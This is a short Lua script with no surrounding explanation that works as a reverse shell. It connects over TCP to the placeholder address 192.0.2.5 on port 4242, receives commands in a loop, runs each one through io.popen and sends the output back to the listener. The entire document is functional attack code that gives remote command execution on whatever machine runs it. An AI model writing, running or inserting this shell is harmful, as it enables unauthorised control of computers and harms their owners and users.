local host, port = '192.0.2.5', 4242
local socket = require('socket')
local tcp = socket.tcp()
local io = require('io')
tcp:connect(host, port)
while true do
  local cmd, status, partial = tcp:receive()
  local f = io.popen(cmd, 'r')
  local s = f:read('*a')
  f:close()
  tcp:send(s)
  if status == 'closed' then break end
end
tcp:close()
